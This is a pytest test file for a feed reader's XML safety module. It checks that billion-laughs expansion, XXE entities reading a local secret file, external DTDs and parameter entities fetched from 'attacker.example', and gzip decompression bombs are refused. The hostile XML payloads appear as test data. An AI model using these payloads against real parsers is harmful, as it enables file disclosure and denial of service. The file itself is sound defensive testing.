"""Hostile XML is refused before any parser expands or fetches anything."""

from __future__ import annotations

import gzip
import time
from pathlib import Path

import pytest

from newsflow.discover.xml_safety import (
    MAX_DECOMPRESSED_BYTES,
    completed_children,
    ensure_safe_xml,
    gunzip,
    hostile_reason,
    iter_xml,
    maybe_gunzip,
    parse_xml,
)
from newsflow.errors import FeedError

FIXTURES = Path(__file__).parents[1] / "fixtures" / "feeds"
URL = "https://evil.example.com/feed.xml"


def _xxe(target: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "{target.as_uri()}">]>\n<r><t>&xxe;</t></r>'
    ).encode()


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOKEN-6f1d2c-do-not-leak\n")
    return path


def test_billion_laughs_is_refused_quickly() -> None:
    data = (FIXTURES / "billion-laughs.xml").read_bytes()
    started = time.perf_counter()
    with pytest.raises(FeedError, match=r"evil\.example\.com/feed\.xml: refused hostile XML.*entity 'lol'"):
        parse_xml(data, what=URL)
    assert time.perf_counter() - started < 0.5


def test_xxe_is_refused_and_leaks_nothing(secret: Path) -> None:
    with pytest.raises(FeedError, match="external entity 'xxe'") as raised:
        parse_xml(_xxe(secret), what=URL)
    assert "TOKEN-6f1d2c" not in str(raised.value)


def test_parser_itself_does_not_expand_entities(secret: Path) -> None:
    # The second line of defence, should the screen ever miss a declaration.
    from lxml import etree

    from newsflow.discover import xml_safety as xmlsafe

    root = etree.fromstring(_xxe(secret), parser=xmlsafe._PARSER)
    assert "TOKEN-6f1d2c" not in etree.tostring(root, encoding="unicode")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>', "external DTD"),
        (
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
            "external entity 'p'",
        ),
        (b'<!DOCTYPE r [<!ENTITY e "harmless looking">]><r>&e;</r>', "DTD entity 'e'"),
        (b'<!DOCTYPE r [<!ENTITY logo SYSTEM "logo.gif" NDATA gif>]><r/>', "external entity"),
        ('<!DOCTYPE r [<!ENTITY a "aaaa">]><r>&a;</r>'.encode("utf-16"), "DTD entity 'a'"),
        # pyexpat cannot read multi-byte encodings; the byte scan still catches the declaration.
        (b'<?xml version="1.0" encoding="gb2312"?><!DOCTYPE r [<!ENTITY a "b">]><r/>', "DTD entities"),
        (b'garbage first <!DOCTYPE r [<!ENTITY a "b">]><r/>', "DTD entities"),
    ],
)
def test_hostile_documents_are_named(data: bytes, reason: str) -> None:
    found = hostile_reason(data)
    assert found is not None
    assert reason in found
    with pytest.raises(FeedError, match=URL):
        ensure_safe_xml(data, what=URL)


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel/></rss>',
        b"<!DOCTYPE html><html><body>not a feed, but not hostile</body></html>",
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"/>',
        b"<!DOCTYPE r [<!ELEMENT r ANY>]><r>an internal subset without entities</r>",
        "<?xml version='1.0' encoding='windows-1251'?><r>Новости</r>".encode("cp1251"),
        b"\x00\x01 binary junk",
    ],
)
def test_ordinary_documents_pass_the_screen(data: bytes) -> None:
    assert hostile_reason(data) is None


def test_parse_xml_returns_the_tree() -> None:
    root = parse_xml(b'<urlset xmlns="urn:x"><url><loc> https://a.example/1 </loc></url></urlset>', what=URL)
    assert root.tag == "{urn:x}urlset"
    assert root[0][0].text == " https://a.example/1 "


@pytest.mark.parametrize("data", [b"", b"   ", b"<rss><channel></rss>", b"just text"])
def test_malformed_xml_names_the_url(data: bytes) -> None:
    with pytest.raises(
        FeedError, match=r"https://evil\.example\.com/feed\.xml: .*check that the URL serves XML"
    ):
        parse_xml(data, what=URL)


def test_streaming_parser_refuses_hostile_xml_before_any_event(secret: Path) -> None:
    with pytest.raises(FeedError, match="entity 'lol'"):
        iter_xml((FIXTURES / "billion-laughs.xml").read_bytes(), what=URL)
    with pytest.raises(FeedError, match="external entity 'xxe'") as raised:
        iter_xml(_xxe(secret), what=URL)
    assert "TOKEN-6f1d2c" not in str(raised.value)


def test_streaming_parser_itself_does_not_expand_entities(secret: Path) -> None:
    import io

    from lxml import etree

    from newsflow.discover import xml_safety as xmlsafe

    events = etree.iterparse(io.BytesIO(_xxe(secret)), events=("end",), **xmlsafe._PARSER_OPTIONS)
    texts = [element.text or "" for _, element in events]
    assert not any("TOKEN-6f1d2c" in text for text in texts)


@pytest.mark.parametrize("data", [b"", b"   ", b"<rss><channel></rss>", b"just text"])
def test_streamed_malformed_xml_names_the_url(data: bytes) -> None:
    with pytest.raises(
        FeedError,
        match=r"https://evil\.example\.com/feed\.xml: not well-formed XML.*check that the URL serves XML",
    ):
        list(iter_xml(data, what=URL))


def test_completed_children_keep_the_tree_small() -> None:
    count = 20_000
    data = b"<urlset>%s</urlset>" % b"".join(
        b"<url><loc>https://a.example/%d</loc></url>" % i for i in range(count)
    )
    events = iter_xml(data, what=URL)
    _, root = next(events)
    locs, widest = [], 0
    for child in completed_children(events):
        locs.append(child[0].text)
        widest = max(widest, len(root))
    assert locs == [f"https://a.example/{i}" for i in range(count)]
    # Bounded by what the parser reads ahead (32 KB at a time), not by the document.
    assert widest < count // 20


def test_gunzip_reads_every_member_and_ignores_padding() -> None:
    data = gzip.compress(b"<urlset>") + gzip.compress(b"</urlset>") + b"\x00" * 8
    assert gunzip(data, what=URL) == b"<urlset></urlset>"


def test_gunzip_refuses_a_decompression_bomb() -> None:
    bomb = gzip.compress(b"\x00" * 2_000_000)
    with pytest.raises(FeedError, match="beyond 1000000 bytes"):
        gunzip(bomb, what=URL, max_bytes=1_000_000)


def test_gunzip_default_cap_is_fifty_megabytes() -> None:
    bomb = gzip.compress(b" " * (MAX_DECOMPRESSED_BYTES + 1), compresslevel=1)
    with pytest.raises(FeedError, match="decompression bomb"):
        gunzip(bomb, what=URL)
    assert (
        len(gunzip(gzip.compress(b" " * MAX_DECOMPRESSED_BYTES, compresslevel=1), what=URL))
        == MAX_DECOMPRESSED_BYTES
    )


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (gzip.compress(b"<urlset/>" * 100)[:-12], "truncated"),
        (b"\x1f\x8b" + b"\xff" * 20, "corrupt gzip"),
    ],
)
def test_broken_gzip_is_a_feed_error(data: bytes, message: str) -> None:
    with pytest.raises(FeedError, match=message):
        gunzip(data, what=URL)


def test_maybe_gunzip_passes_plain_bytes_through() -> None:
    assert maybe_gunzip(b"<rss/>", what=URL) == b"<rss/>"
    assert maybe_gunzip(gzip.compress(b"<rss/>"), what=URL) == b"<rss/>"
